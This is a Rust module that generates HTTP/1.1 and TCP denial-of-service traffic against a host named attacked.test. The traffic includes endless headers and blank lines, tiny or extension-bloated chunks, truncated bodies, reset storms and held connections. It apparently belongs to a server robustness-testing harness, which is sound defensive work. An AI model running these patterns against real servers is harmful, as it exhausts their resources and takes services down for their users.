//! The words of the attacks on HTTP/1.1 and on TCP below it.

use super::attack::{Attack, HELD, Next, Script};
use super::lane::Heard;

const GET: &[u8] = b"GET / HTTP/1.1\r\nHost: attacked.test\r\n\r\n";
const CHUNKED: &[u8] =
    b"POST /upload HTTP/1.1\r\nHost: attacked.test\r\nTransfer-Encoding: chunked\r\n\r\n";
const CUT: &[u8] =
    b"POST /upload HTTP/1.1\r\nHost: attacked.test\r\nContent-Length: 1000000\r\n\r\nbody";
/// Pieces that are sent in one go.
const BURST: usize = 200;
/// Bytes of the extensions of a chunk.
const EXTENSIONS: usize = 4_000;

/// One connection.
pub(super) struct Http1 {
    attack: Attack,
    begun: bool,
    /// What is said again and again.
    again: Vec<u8>,
}

impl Http1 {
    pub(super) fn new(attack: Attack) -> Self {
        let again = match attack {
            Attack::EndlessHead => format!("X-More: {}\r\n", "m".repeat(64)).into_bytes(),
            Attack::EndlessLines => b"\r\n".to_vec(),
            Attack::TinyChunks => b"1\r\na\r\n".to_vec(),
            Attack::ChunkExtensions => {
                format!("1;{}\r\na\r\n", "e".repeat(EXTENSIONS)).into_bytes()
            }
            _ => GET.to_vec(),
        };
        let times = if attack == Attack::ChunkExtensions { 4 } else { BURST };
        Self { attack, begun: false, again: again.repeat(times) }
    }
}

impl Script for Http1 {
    fn next(&mut self, _: &Heard, said: &mut Vec<u8>) -> Next {
        let first = !std::mem::replace(&mut self.begun, true);
        match self.attack {
            Attack::FullTable => return Next::Wait(HELD),
            Attack::HalfClosed => {
                said.extend_from_slice(CUT);
                return Next::Finish;
            }
            Attack::ResetStorm if first => {
                said.extend_from_slice(GET);
                return Next::Send;
            }
            Attack::ResetStorm => return Next::Leave,
            Attack::EndlessHead if first => {
                said.extend_from_slice(b"GET / HTTP/1.1\r\nHost: attacked.test\r\n");
            }
            Attack::TinyChunks | Attack::ChunkExtensions if first => {
                said.extend_from_slice(CHUNKED);
            }
            _ => {}
        }
        said.extend_from_slice(&self.again);
        Next::Send
    }
}
